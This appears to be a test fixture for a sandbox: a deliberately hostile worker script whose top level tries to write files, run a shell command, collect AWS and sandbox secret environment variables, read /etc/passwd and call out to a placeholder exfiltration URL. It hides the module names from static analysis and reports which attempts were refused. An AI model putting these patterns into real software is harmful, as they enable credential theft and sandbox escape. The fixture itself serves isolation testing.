// A hostile worker: its top level, which runs when the worker is built,
// tries to reach the host that builds it. The test fills in MARKER (a path
// prefix in its temp dir), EXFIL (a loopback URL it listens on) and NONCE
// (so that every build is a new one, not a cache hit). The worker answers
// with what its top level saw, then with what the same attempts see while
// it serves a request.

function attempts() {
  const seen = {};
  const attempt = (name, f) => {
    try {
      const value = f();
      seen[name] = value === undefined ? "done" : value;
    } catch (e) {
      seen[name] = `refused: ${e && e.message}`;
    }
  };
  // Names built at run time, so no bundler or polyfill can see them.
  const host = globalThis["pro" + "cess"];
  const builtin = (name) => host.getBuiltinModule(name);
  attempt("write", () => builtin("fs").writeFileSync("MARKER-fs", "written by a worker"));
  attempt("spawn", () => builtin("child_process").execSync("touch MARKER-spawn"));
  attempt("secrets", () =>
    Object.entries(host.env).filter(([name]) => /^(ISOLA_SECRET_|AWS_)/.test(name)),
  );
  attempt("passwd", () => builtin("fs").readFileSync("/etc/passwd", "utf8").slice(0, 40));
  attempt("require", () => globalThis["req" + "uire"]("fs").writeFileSync("MARKER-require", "x"));
  attempt("fetch", () => {
    fetch("EXFIL/exfil?nonce=NONCE").then(
      () => (seen.fetched = "reached"),
      (e) => (seen.fetched = `refused: ${e && e.message}`),
    );
    return "sent";
  });
  return seen;
}

const atBuild = attempts();

export default {
  async fetch(request, env) {
    return Response.json({ nonce: "NONCE", atBuild, atRequest: attempts(), env: Object.keys(env) });
  },
};
